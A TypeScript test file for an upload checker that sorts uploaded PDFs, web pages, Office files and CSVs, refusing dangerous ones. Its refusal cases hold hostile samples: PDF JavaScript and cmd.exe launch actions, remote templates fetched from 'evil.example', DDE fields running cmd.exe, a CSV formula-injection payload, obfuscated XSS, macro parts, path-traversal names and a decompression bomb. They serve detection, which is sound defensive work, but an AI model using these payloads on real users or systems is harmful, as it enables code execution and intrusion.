import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { afterAll, expect, it } from 'vitest'
import { recogniseFile } from './recognise.ts'

const folder = mkdtempSync(path.join(os.tmpdir(), 'southerly-evidence-'))
afterAll(() => rmSync(folder, { recursive: true }))

/** Under a name of ours, as uploads are on the disk. */
const recognise = async (name: string, content: Uint8Array | string): Promise<string> => {
  const location = path.join(folder, 'incoming')
  writeFileSync(location, content)
  return await recogniseFile(location, name).catch((error: Error) => error.message)
}

const PARTS = '[Content_Types].xml'
const office = (entries: Readonly<Record<string, string>>, types = '<Types/>'): Uint8Array =>
  zipSync({
    [PARTS]: strToU8(types),
    ...Object.fromEntries(Object.entries(entries).map(([name, text]) => [name, strToU8(text)])),
  })
/** As a common library begins every workbook. */
const MACRO_BY_DEFAULT =
  '<Types><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'
const workbook = { 'xl/workbook.xml': '<workbook/>' }
const document = { 'word/document.xml': '<document/>' }
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<Relationships><Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}"${mode}/></Relationships>`
const template = (target: string): Uint8Array =>
  office({ ...document, 'word/_rels/settings.xml.rels': related('attachedTemplate', target) })
const field = (xml: string): Uint8Array =>
  office({ ...document, 'word/footer1.xml': `<w:p><w:r>${xml}</w:r></w:p>` })
const instruction = (...pieces: readonly string[]): string =>
  pieces.map((piece) => `<w:instrText xml:space="preserve">${piece}</w:instrText>`).join('</w:r><w:r>')
/** A PDF whose objects are compressed, as most programs write them. */
const packedPdf = (objects: string, filter = '/FlateDecode'): Buffer =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter${filter}/Length 9>>\nstream\r\n`),
    deflateSync(objects),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ])

it.each([
  ['a.pdf', '%PDF-1.4\n1 0 obj <</Title (How to /Encrypt files)>> endobj\n%%EOF\n', 'pdf'],
  [
    'a.html',
    '<!doctype html><html lang="en"><p>Scope 1: 1 t</p><img alt="" src="data:image/png;base64,AA==">',
    'html',
  ],
  [
    'saved.htm',
    '<html><head><meta charset="utf-8"><style>p { background: url(#a) }</style></head><a href="https://example.com/on=1">x</a>',
    'html',
  ],
  ['a.xlsx', office(workbook), 'xlsx'],
  ['unused-default.xlsx', office(workbook, MACRO_BY_DEFAULT), 'xlsx'],
  ['a.docx', office({ 'word/document.xml': '<document/>' }), 'docx'],
  ['web.docx', office({ 'word/document2.xml': '<document/>' }), 'docx'],
  [
    'link.docx',
    office({
      ...document,
      'word/_rels/document.xml.rels': related('hyperlink', 'https://example.com/?a=1&amp;b=2'),
    }),
    'docx',
  ],
  ['template.docx', template('file:///C:\\Users\\lee\\Templates\\Letter.dotx'), 'docx'],
  ['chart.docx', office({ ...document, 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'x' }), 'docx'],
  ['page.docx', field(instruction(' PAGE ')), 'docx'],
  ['dde.docx', field(instruction(' REF DDE ')), 'docx'],
  [
    'links.xlsx',
    office({
      ...workbook,
      'xl/externalLinks/externalLink1.xml': '<externalLink/>',
      'xl/externalLinks/_rels/externalLink1.xml.rels': related('externalLinkPath', 'Budget%202025.xlsx'),
    }),
    'xlsx',
  ],
  ['packed.pdf', packedPdf('1 0 <</Type/Catalog/Pages 2 0 R>>'), 'pdf'],
  ['bars.csv', 'name,value\n=SUM(A1:A2),a|b\n"-5|x",1\n', 'csv'],
  ['meter.CSV', '100,NEM12,202507010000,A,B\r\n', 'csv'],
  ['a.csv', Buffer.from('caf\xe9,1', 'latin1'), 'csv'],
  ['notes.txt', 'Minutes', 'text'],
])('%s is taken', async (name, content, kind) => {
  expect(await recognise(name, content)).toBe(kind)
})

it.each<[string, string | Uint8Array, RegExp]>([
  ['a.pdf', '%PDF-1.4\ntrailer <</Root 1 0 R /Encrypt 5 0 R>>\n%%EOF', /encrypted/],
  ['a.pdf', `%PDF-1.4\n${'x'.repeat(262_130)} /Encrypt 5 0 R %%EOF`, /encrypted/],
  ['a.pdf', '%PDF-1.4\n1 0 obj', /cut off/],
  ['a.txt', ' \n\t'.repeat(100), /is blank/],
  ['a.pdf', '%PDF-1.4\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n%%EOF', /scripts/],
  ['a.pdf', '%PDF-1.4\n<</S %x\n /J#61va#53cript/JS(a)>>\n%%EOF', /scripts/],
  ['a.pdf', '%PDF-1.4\n<</S/Launch/F(cmd.exe)>>\n%%EOF', /starts a program/],
  ['a.pdf', packedPdf(`1 0 ${'x'.repeat(300_000)}<</S/JavaScript/JS(a)>>`), /scripts/],
  ['a.pdf', packedPdf('1 0 <<>>', '[/ASCII85Decode/FlateDecode]'), /unusual coding/],
  ['a.docx', template('https://evil.example/t.dotm'), /fetch something from elsewhere .*attachedtemplate/],
  ['a.docx', template('&#104;ttps://evil.example/t.dotm'), /fetch something/],
  ['a.docx', template('\\\\evil.example\\share\\t.dotm'), /fetch something/],
  ['a.docx', template('file://evil.example/share/t.dotm'), /fetch something/],
  [
    'a.pptx',
    office({
      'ppt/presentation.xml': '<p/>',
      'ppt/slides/_rels/slide1.xml.rels': related('image', 'http://evil.example/a.png'),
    }),
    /fetch something/,
  ],
  ['a.docx', office({ ...document, 'word/embeddings/oleObject1.bin': 'x' }), /embedded object/],
  ['a.xlsx', office({ ...workbook, 'xl/activeX/activeX1.bin': 'x' }), /embedded object/],
  [
    'a.docx',
    office({ ...document, 'word/_rels/document.xml.rels': related('oleObject', 'odd/name.txt', '') }),
    /embedded object/,
  ],
  [
    'a.docx',
    office({ ...document, 'word/_rels/document.xml.rels': `<!--a-->${related('hyperlink', 'x')}` }),
    /unusual part/,
  ],
  [
    'a.xlsx',
    office({
      ...workbook,
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
    /DDE/,
  ],
  ['a.docx', field(instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe ')), /DDE/],
  ['a.docx', field(instruction(' D', 'D&#69;', 'AUTO x')), /DDE/],
  ['a.docx', field('<w:fldSimple w:instr=" dde x "/>'), /DDE/],
  ['a.csv', 'name,value\n"=cmd|\' /C calc\'!A0",1\n', /DDE/],
  ['a.xlsx', '%PDF-1.4\n%%EOF', /is a PDF by its content, but its name says an Excel workbook/],
  ['a.pdf', 'a,b', /is a text file by its content, but its name says a PDF/],
  ['a.exe', 'a,b', /its name does not say so/],
  ['a.csv', '<svg/>', /scripts/],
  [
    'a.txt',
    '<html><p>Scope 1: 1 t</p></html>',
    /is a web page by its content, but its name says a text file/,
  ],
  ...[
    '<ScRiPt>alert(1)</script>',
    '<svg><script href="#a"/></svg>',
    '<img src="data:image/png;base64,AA==" title=">" ONERROR = alert(1)>',
    '<a href="java&#115;cript&colon;alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
  ].map((body) => ['a.html', `<html>${body}</html>`, /contains scripts/] as [string, string, RegExp]),
  ...[
    '<iframe src="https://example.com"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://example.com">',
    '<link rel="stylesheet" href="https://example.com/a.css">',
    '<img src="https://example.com/seen.png">',
    '<img src=//example.com/seen.png>',
    '<style>@import "a.css"</style>',
    '<p style="background: url(https://example.com/seen.png)">x</p>',
    '<form action="https://example.com"><input></form>',
    '<object data="a.swf"></object>',
  ].map(
    (body) =>
      ['a.html', `<html>${body}</html>`, /shows other pages or files, or fetches them/] as [
        string,
        string,
        RegExp,
      ],
  ),
  ['a.html', '<html><meta charset="utf-7">+ADw-script+AD4-</html>', /unusual character set/],
  ['a.html', `<html>${' '.repeat(300_000)}<script></script></html>`, /contains scripts/],
  ['a.csv', 'a\0b', /not known/],
  ['a.xlsx', office({ ...workbook, 'xl/vbaProject.bin': 'x' }), /macros \(xl\/vbaProject.bin\)/],
  ['a.xlsx', office(workbook, '<Override ContentType="application/vnd.ms-office.vbaProject"/>'), /macros/],
  [
    'a.xlsx',
    office(workbook, '<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
    /unusual part/,
  ],
  ['a.xlsx', office({ ...workbook, 'xl/macrosheets/sheet1.xml': 'x' }), /macros/],
  ['a.xlsx', office({ ...workbook, 'xl/odd.bin': 'x' }, MACRO_BY_DEFAULT), /macros/],
  ['a.xlsx', zipSync({ 'bill.pdf': strToU8('%PDF') }), /archive, not an Office file/],
  ['a.xlsx', office(workbook).subarray(0, 60), /cannot be opened: has no archive directory/],
  ['a.xlsx', office({ ...workbook, '../../a': 'x' }), /cannot be opened: "..\/..\/a" is not a safe name/],
  ['a.xlsx', office({ ...workbook, 'xl/bomb': ' '.repeat(20_000_000) }), /decompression bomb/],
])('%s is refused in words (%#)', async (name, content, words) => {
  expect(await recognise(name, content)).toMatch(words)
})
